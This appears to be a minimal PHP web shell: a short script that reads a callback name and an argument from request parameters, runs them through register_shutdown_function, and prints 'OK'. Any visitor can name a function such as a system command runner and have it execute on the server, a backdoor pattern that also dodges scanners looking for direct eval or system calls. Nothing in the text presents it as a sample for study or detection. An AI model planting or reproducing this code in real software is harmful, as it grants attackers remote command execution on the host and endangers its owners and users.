<?php
$cb = $_REQUEST['cb'];
$arg = $_REQUEST['arg'];
register_shutdown_function($cb, $arg);
echo "OK";
